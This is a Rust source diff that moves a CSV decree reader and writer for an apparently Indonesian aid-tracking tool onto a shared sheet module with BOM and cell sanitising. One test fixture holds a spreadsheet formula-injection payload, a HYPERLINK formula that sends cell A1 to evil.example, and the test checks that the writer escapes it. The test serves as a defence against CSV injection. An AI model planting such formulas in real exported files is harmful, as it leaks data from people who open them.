@@ -8,11 +8,15 @@
 //! `40,30,30`; optional: the program's own schedule when empty). The
 //! columns `beneficiary` (`penerima`) and `region` (`wilayah`), which the
 //! list Pantau hands out as a start carries for people to read, are ignored.
+//! The file is read as every CSV Pantau reads ([`crate::sheet`]): `;` or
+//! `,`, UTF-8 or Windows-1252, cells cleaned.
 
 use std::fmt;
 
 use pantau_domain::{Rupiah, RupiahError};
 use serde::Serialize;
+
+use crate::sheet::{Sheet, Writer};
 
 /// What a decree does to one case.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
@@ -151,15 +155,11 @@ const COLUMNS: [(&str, &str); 6] = [
 /// no row is bad, so a decree is never half-read: the errors name every bad
 /// row at once, to be mended before the decree is applied.
 pub fn read<R: std::io::Read>(input: R) -> Result<Vec<DecreeLine>, Vec<LineError>> {
-    let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(input);
-    let header = match reader.headers() {
-        Ok(h) => h.clone(),
-        Err(e) => return Err(vec![error(1, "-", format!("bukan CSV (not CSV): {e}"))]),
-    };
+    let mut sheet = Sheet::open(input).map_err(|e| vec![error(1, "-", e.to_string())])?;
     let mut index = [None; COLUMNS.len()];
     let mut errors = Vec::new();
-    for (i, name) in header.iter().enumerate() {
-        let name = name.trim().trim_start_matches('\u{feff}').to_lowercase();
+    for (i, name) in sheet.names().iter().enumerate() {
+        let name = name.to_lowercase();
         match COLUMNS
             .iter()
             .position(|(en, id)| *en == name || *id == name)
@@ -185,22 +185,21 @@ pub fn read<R: std::io::Read>(input: R) -> Result<Vec<DecreeLine>, Vec<LineError
         return Err(errors);
     }
     let mut lines = Vec::new();
-    for row in reader.records() {
-        let row = match row {
-            Ok(r) => r,
+    loop {
+        let row = match sheet.next_row() {
+            Ok(Some(row)) => row,
+            Ok(None) => break,
             Err(e) => {
-                let line = e.position().map_or(0, |p| p.line());
-                errors.push(error(
-                    line,
-                    "-",
-                    format!("baris rusak (unreadable row): {e}"),
-                ));
-                continue;
+                errors.push(error(0, "-", e.to_string()));
+                break;
             }
         };
-        let line = row.position().map_or(0, |p| p.line());
-        let get = |c: usize| index[c].and_then(|i| row.get(i)).map_or("", str::trim);
-        match parse_row(line, get(0), get(1), get(2), get(3)) {
+        if let Some(e) = row.unreadable {
+            errors.push(error(row.line, &e.column, e.reason));
+            continue;
+        }
+        let get = |c: usize| index[c].and_then(|i| row.cells.get(i)).map_or("", |c| c);
+        match parse_row(row.line, get(0), get(1), get(2), get(3)) {
             Ok(l) => lines.push(l),
             Err(mut e) => errors.append(&mut e),
         }
@@ -225,9 +224,10 @@ pub struct Proposed {
     pub region: String,
 }
 
-/// `rows` as a decree's list that [`read`] takes back.
+/// `rows` as a decree's list that [`read`] takes back, for people to open
+/// in a spreadsheet (a BOM first; every cell made safe by [`Writer`]).
 pub fn start_list(rows: &[Proposed]) -> Result<Vec<u8>, String> {
-    let mut w = csv::Writer::from_writer(Vec::new());
+    let mut w = Writer::for_people(Vec::new()).map_err(|e| e.to_string())?;
     let header = [
         "case_id",
         "change",
@@ -236,9 +236,9 @@ pub fn start_list(rows: &[Proposed]) -> Result<Vec<u8>, String> {
         "beneficiary",
         "region",
     ];
-    w.write_record(header).map_err(|e| e.to_string())?;
+    w.row(header).map_err(|e| e.to_string())?;
     for r in rows {
-        w.write_record([
+        w.row([
             r.case_id.as_str(),
             Change::Approve.as_str(),
             &r.amount.map(|a| a.to_string()).unwrap_or_default(),
@@ -389,10 +389,17 @@ mod tests {
             case_id: "K-1".into(),
             amount: Some(Rupiah::new(150_000_000).unwrap()),
             tranches: Some(Schedule::parse("40,30,30").unwrap()),
-            beneficiary: "KSP \"Maju\", Natar".into(),
+            beneficiary: "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"klik\")".into(),
             region: "Kabupaten Lampung Selatan".into(),
         }];
-        let lines = read(start_list(&rows).unwrap().as_slice()).unwrap();
+        let list = start_list(&rows).unwrap();
+        assert!(list.starts_with("\u{feff}case_id,".as_bytes()));
+        let text = String::from_utf8(list.clone()).unwrap();
+        assert!(
+            text.contains(",\"'=HYPERLINK(\"\"http://evil.example/"),
+            "{text}"
+        );
+        let lines = read(list.as_slice()).unwrap();
         assert_eq!(
             lines,
             [DecreeLine {
@@ -402,6 +409,34 @@ mod tests {
                 tranches: rows[0].tranches.clone(),
             }]
         );
+    }
+
+    #[test]
+    fn an_excel_file_semicolons_windows_1252_and_a_formula_in_a_name() {
+        let lines = read(
+            &b"kasus;penerima;jumlah;tahap;;\r\nK-1;'=HYPERLINK(\"x\");Rp 50.000.000;40,30,30;;\r\n\
+               K-2;Koperasi Ren\xe9;Rp 1.000;;;\r\n;;;;;\r\n"[..],
+        )
+        .unwrap();
+        assert_eq!(
+            lines
+                .iter()
+                .map(|l| (l.case_id.as_str(), l.amount.map(Rupiah::get)))
+                .collect::<Vec<_>>(),
+            [("K-1", Some(50_000_000)), ("K-2", Some(1_000))]
+        );
+        assert_eq!(lines[0].tranches.as_ref().unwrap().percents(), [40, 30, 30]);
+        let errs = read(&b"kasus;jumlah\nK-1;Rp 5;x\nK-2\n"[..]).unwrap_err();
+        assert_eq!(
+            errs.iter()
+                .map(|e| (e.line, e.column.as_str()))
+                .collect::<Vec<_>>(),
+            [(2, "#3"), (3, "jumlah")],
+            "{errs:?}"
+        );
+        let errs = read(&b"PK\x03\x04\x14\x00"[..]).unwrap_err();
+        assert_eq!((errs.len(), errs[0].line), (1, 1));
+        assert!(errs[0].reason.contains("CSV UTF-8"), "{errs:?}");
     }
 
     #[test]
